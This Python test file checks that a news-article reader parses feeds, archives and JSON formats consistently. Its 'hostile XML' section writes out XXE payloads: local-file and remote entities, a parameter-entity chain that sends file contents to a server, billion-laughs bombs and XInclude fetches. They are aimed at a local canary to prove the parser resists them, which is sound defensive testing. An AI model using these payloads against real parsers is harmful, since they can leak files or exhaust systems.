"""Files that hold many articles go through every door, packed or not; whatever they hold, they end in words."""

import gzip
import hashlib
import io
import json
import random
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from threading import Thread
from wsgiref.simple_server import WSGIRequestHandler, WSGIServer, make_server

import brotli
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from saidby.pipeline import read
from saidby.read.containers import inside, open_stream
from saidby.read.documents import LONGEST_NAME, Document, clock_time, safe_name
from saidby.read.files import gather
from saidby.records import Problem
from tests.read.archives import answer, record
from tests.read.bombs import zstd

ROOT = Path(__file__).resolve().parent.parent.parent
TITLE = "Weir failure killed at least 40, board says"
PARAGRAPHS = (
    "At least 40 people were killed when the weir at Osk failed, the river board said on Monday.",
    "Another 12 were wounded, and 300 left their homes, a spokesman for the valley's council said late on Monday.",
    "The board had warned in April that the weir, built in 1931, was in need of repair, as its own minutes show.",
)
BODY = "".join(f"<p>{words}</p>" for words in PARAGRAPHS)
ADDRESS = "https://mail.osk.example/2026/05/05/weir.html"
PAGE = (
    f"<!DOCTYPE html><html><head><title>{TITLE}</title></head><body><nav>Home Sport Weather</nav><article>"
    f"<h1>{TITLE}</h1>{BODY}</article><footer>All rights reserved</footer></body></html>"
).encode()
ESCAPED = BODY.replace("<", "&lt;")
RSS = (
    f"<rss version='2.0'><channel><title>Osk Mail</title><item><guid>osk-1</guid><title>{TITLE}</title>"
    f"<link>{ADDRESS}?utm_source=rss</link><description>{ESCAPED}</description></item></channel></rss>"
).encode()
ATOM = (
    f"<feed xmlns='http://www.w3.org/2005/Atom'><title>Osk Mail</title><entry><id>urn:osk-1</id><title>{TITLE}</title>"
    f"<link href='{ADDRESS}'/><content type='html'>{ESCAPED}</content></entry></feed>"
).encode()
NEWSML = (
    "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='urn:osk-1'><contentMeta>"
    f"<headline>{TITLE}</headline></contentMeta><contentSet><inlineXML><html xmlns='http://www.w3.org/1999/xhtml'>"
    f"<body>{BODY}</body></html></inlineXML></contentSet></newsItem>"
).encode()
NITF = (
    f"<nitf><body><body.head><hedline><hl1>{TITLE}</hl1></hedline></body.head>"
    f"<body.content>{BODY}</body.content></body></nitf>"
).encode()
NINJS = json.dumps({"uri": ADDRESS, "headline": TITLE, "body_html": BODY}).encode()
JSON_FEED = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Osk Mail",
        "items": [{"id": "osk-1", "url": ADDRESS, "title": TITLE, "content_html": BODY}],
    }
).encode()
TEXT = "\n\n".join([TITLE, *PARAGRAPHS])
LINES = json.dumps({"id": "osk-1", "text": TEXT}).encode() + b"\n"
WARC = record(answer(PAGE), address=f"{ADDRESS}?fbclid=abc")
SAMPLES = {
    "a.rss": RSS,
    "a.atom": ATOM,
    "b.xml": NEWSML,
    "c.xml": NITF,
    "d.json": NINJS,
    "e.json": JSON_FEED,
    "f.jsonl": LINES,
    "g.warc": WARC,
    "g.warc.gz": gzip.compress(WARC),
    "h.html": PAGE,
    "i.txt": TEXT.encode(),
}


def opened(data: bytes, name: str) -> list[Document | Problem]:
    return list(open_stream(io.BytesIO(data), name))


# --- one article by every route (promise I3) ------------------------------------------------------------------


@pytest.mark.parametrize("name", SAMPLES)
def test_an_article_has_one_key_by_every_route(name: str) -> None:
    (document,) = [item for item in opened(SAMPLES[name], name) if isinstance(item, Document)]
    article = read(document.data, name=document.name, address=document.address)
    assert article.key == hashlib.sha256(" ".join(TEXT.split()).encode()).hexdigest()
    assert article.url in {None, ADDRESS}
    if document.address:
        assert article.url == ADDRESS


# --- doors -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", SAMPLES)
def test_standard_input_is_taken_for_what_it_begins_like(name: str) -> None:
    data = SAMPLES[name] * 2 if name == "f.jsonl" else SAMPLES[name]
    by_name = [item.data for item in opened(data, name) if isinstance(item, Document)]
    found = [item.data for item in gather(["-"], io.BytesIO(data)) if isinstance(item, Document)]
    assert found == by_name


def test_a_folder_gives_the_articles_of_all_its_files(tmp_path: Path) -> None:
    for name, data in SAMPLES.items():
        (tmp_path / name).write_bytes(data)
        if not name.endswith(".gz"):
            (tmp_path / f"{name}.gz").write_bytes(gzip.compress(data))
    (tmp_path / "picture.gz").write_bytes(b"")
    found = list(gather([str(tmp_path)]))
    assert not [item for item in found if isinstance(item, Problem)]
    assert len(found) == 2 * len(SAMPLES) - 2  # g.warc.gz is one already


@pytest.mark.parametrize(("ending", "pack"), [(".gz", gzip.compress), (".br", brotli.compress), (".zst", zstd)])
def test_a_packed_file_is_its_content_and_keeps_its_bytes(ending: str, pack: object) -> None:
    assert callable(pack)
    packed = pack(TEXT.encode())
    assert opened(packed, f"a.txt{ending}") == [Document(name="a.txt", data=TEXT.encode(), raw=packed)]


def test_a_feed_that_was_fetched_gives_its_entries_with_what_came_with_it() -> None:
    page = Document(
        name="https://mail.osk.example/feed",
        data=RSS,
        route="url",
        headers={"ETag": "x"},
        fetched="2026-05-05T08:30:00Z",
    )
    (entry,) = inside(page)
    assert isinstance(entry, Document)
    assert (entry.route, entry.headers, entry.fetched) == ("feed", {"ETag": "x"}, "2026-05-05T08:30:00Z")
    article = Document(name="https://mail.osk.example/a", data=PAGE, route="url")
    assert list(inside(article)) == [article]


def test_plain_text_is_read_without_what_containers_need(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(TEXT)
    code = (
        "import sys; from saidby.read.files import gather; list(gather([sys.argv[1]])); "
        "print([name for name in ('feedparser', 'fastwarc', 'brotli', 'xml.parsers') if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, check=True, cwd=ROOT)
    assert done.stdout.strip() == b"[]"


# --- names and times -----------------------------------------------------------------------------------------


@given(st.text())
def test_any_identifier_makes_a_safe_name(identifier: str) -> None:
    name = safe_name(identifier)
    assert name
    assert len(name) <= LONGEST_NAME + 9
    assert name == Path(name).name
    assert not name.startswith((".", "-"))
    assert name.isascii()


def test_identifiers_that_lose_something_are_kept_apart() -> None:
    found = [
        safe_name(words)
        for words in ("https://osk.example/a?x=1", "https://osk.example/a?x=2", "ü", "ö", "x" * 200, "x" * 201)
    ]
    assert len(set(found)) == len(found)


@pytest.mark.parametrize(
    ("words", "time_"),
    [
        ("2026", "2026"),
        ("2026-05", "2026-05"),
        ("2026-05-04T07:00:00+02:00", "2026-05-04T07:00:00+02:00"),
        ("20260504T070000Z", "2026-05-04T07:00:00Z"),
        ("20260504", "2026-05-04"),
        ("Mon, 04 May 2026 07:00:00 +0200", "2026-05-04T07:00:00+02:00"),
        ("2026-13-04", None),
        ("0000-01-01", None),
        ("some day", None),
        ("", None),
        (None, None),
        (7, None),
    ],
)
def test_times_are_as_precise_as_they_come(words: object, time_: str | None) -> None:
    assert clock_time(words) == time_


# --- hostile XML (promise H4) ---------------------------------------------------------------------------------

CANARY = "four hundred and four canaries died"
DOORS = {"a.rss": RSS, "a.atom": ATOM, "b.xml": NEWSML, "c.xml": NITF, "h.html": PAGE, "g.warc": WARC}


class _Quiet(WSGIRequestHandler):
    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, list[str]]]:
    """Give the address of a file, that of a server, and the requests that the server has had."""
    file = tmp_path_factory.mktemp("canary") / "canary.txt"
    file.write_text(CANARY)
    asked: list[str] = []

    def serve(environ: dict[str, object], start: object) -> list[bytes]:
        asked.append(str(environ["PATH_INFO"]))
        assert callable(start)
        start("200 OK", [("Content-Type", "text/plain")])
        return [CANARY.encode()]

    server: WSGIServer = make_server("127.0.0.1", 0, serve, handler_class=_Quiet)
    Thread(target=server.serve_forever, daemon=True).start()
    yield file.as_uri(), f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def laughs(count: int) -> str:
    rows = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, count))
    return f"<!DOCTYPE x [<!ENTITY l0 'lol'>{rows}]>"


def payloads(file: str, server: str) -> dict[str, tuple[str, str]]:
    """Return what goes before the root, and what stands in the text."""
    schema = "http://www.w3.org/2001/XMLSchema-instance"
    inclusion = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='{}'/>"
    return {
        "a file as an entity": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{file}'>]>", "&e;"),
        "an address as an entity": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{server}/e'>]>", "&e;"),
        "a public entity": (f"<!DOCTYPE x [<!ENTITY e PUBLIC 'p' '{file}'>]>", "&e;"),
        "a parameter entity": (f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{server}/p'> %p;]>", ""),
        "a parameter entity that makes another": (
            f"<!DOCTYPE x [<!ENTITY % f SYSTEM '{file}'><!ENTITY % p '<!ENTITY e SYSTEM \"{server}/?%f;\">'>%p;]>",
            "&e;",
        ),
        "a document type elsewhere": (f"<!DOCTYPE x SYSTEM '{server}/x.dtd'>", "&e;"),
        "a document type in a file": (f"<!DOCTYPE x SYSTEM '{file}'>", "&e;"),
        "a public document type": (f"<!DOCTYPE x PUBLIC '-//x//x' '{server}/y.dtd' [<!ATTLIST p a ID #IMPLIED>]>", ""),
        "entities of entities": (laughs(30), "&l29;"),
        "one long entity many times": (f"<!DOCTYPE x [<!ENTITY e '{'ha' * 50_000}'>]>", "&e;" * 5000),
        "an entity of itself": ("<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
        "a file to include": ("", inclusion.format(file)),
        "an address to include": ("", inclusion.format(f"{server}/i")),
        "a style sheet": (f"<?xml-stylesheet type='text/xsl' href='{server}/s.xsl'?>", ""),
        "a schema": ("", f"<b xmlns:xsi='{schema}' xsi:schemaLocation='x {server}/s.xsd'/>"),
        "an entity for an attribute": (f"<!DOCTYPE x [<!ENTITY e SYSTEM '{file}'>]>", "<b title='&e;'/>"),
    }  # fmt: skip


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_no_entity_is_expanded_and_nothing_is_fetched(
    door: str, encoding: str, canary: tuple[str, str, list[str]]
) -> None:
    file, server, asked = canary
    read(PAGE, name="warm.html")
    for prolog, words in payloads(file, server).values():
        data = DOORS[door]
        if door == "g.warc":
            page = PAGE.replace(b"At least 40 people", f"At least 40 people {words}".encode())
            data = record(answer(prolog.encode() + page, kind="application/xhtml+xml"))
        else:
            xml = prolog + data.decode().replace("At least 40 people", f"At least 40 people {words}")
            data = f"<?xml version='1.0' encoding='{encoding}'?>{xml}".encode(encoding)
        began = time.process_time()
        said = "".join(_said(item) for item in opened(data, door))
        assert time.process_time() - began <= 1
        assert CANARY not in said
        assert "lollol" not in said
        assert said.count("haha") < 100_000
    assert asked == []


def _said(item: Document | Problem) -> str:
    if isinstance(item, Problem):
        return item.what
    try:
        article = read(item.data, name=item.name, address=item.address)
    except Exception as error:  # noqa: BLE001
        assert type(error).__name__ == "BadInput"  # noqa: PT017
        return str(error)
    return article.text + str(article.omissions)


# --- anything at all (promise H3) -----------------------------------------------------------------------------


def damaged(data: bytes, seed: int, cuts: int) -> bytes:
    """Return the bytes with stretches of them changed, doubled, taken out, or cut off."""
    chance = random.Random(seed)
    found = bytearray(data)
    for _ in range(cuts):
        at = chance.randrange(len(found) + 1)
        size = chance.choice((1, 2, 8, 60))
        how = chance.randrange(5)
        if how == 0:
            found[at : at + size] = chance.randbytes(min(size, len(found) - at))
        elif how == 1:
            found[at:at] = found[chance.randrange(len(found) + 1) :][:size]
        elif how == 2:
            del found[at : at + size]
        elif how == 3:
            found[at:at] = chance.choice(
                (b"<", b"&", b"\0", b"]]>", b"{", b'"', b"\xff\xfe", b"\r\n\r\n", b"<!DOCTYPE")
            )
        elif chance.random() < 0.2:
            del found[at:]
    return bytes(found)


@pytest.mark.parametrize("name", [name for name in SAMPLES if name not in {"h.html", "i.txt"}])
@settings(max_examples=60)
@given(seed=st.integers(0, 2**32), cuts=st.integers(0, 30))
def test_damage_ends_in_documents_and_problems_and_never_in_a_fault(name: str, seed: int, cuts: int) -> None:
    for item in opened(damaged(SAMPLES[name], seed, cuts), name):
        assert not (isinstance(item, Problem) and "the program failed" in item.what), item


@pytest.mark.parametrize("name", [name for name in SAMPLES if name not in {"h.html", "i.txt"}])
@given(data=st.binary(max_size=200))
def test_any_bytes_end_in_documents_and_problems(name: str, data: bytes) -> None:
    for item in opened(data, name):
        assert not (isinstance(item, Problem) and "the program failed" in item.what), item


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(
                    "uri version items bodies value role contentType headlines associations id body_text".split()
                ),
                inner,
                max_size=5,
            )
        ),
        max_leaves=20,
    )
)
def test_any_json_ends_in_documents_and_problems(found: object) -> None:
    for extra in ({"uri": "urn:a"}, {"version": "https://jsonfeed.org/version/1", "items": [found]}):
        row = (found if isinstance(found, dict) else {"bodies": found, "items": found}) | extra
        for item in opened(json.dumps(row).encode(), "a.json"):
            assert not (isinstance(item, Problem) and "the program failed" in item.what), item


def test_json_that_is_deeper_than_any_is_refused() -> None:
    for data in (b'{"uri":' + b"[" * 100_000, b'{"uri": "a", "x": ' + b"[" * 900 + b"]" * 900 + b', "body_text": "x"}'):
        for item in opened(data, "a.json"):
            assert not (isinstance(item, Problem) and "the program failed" in item.what), item
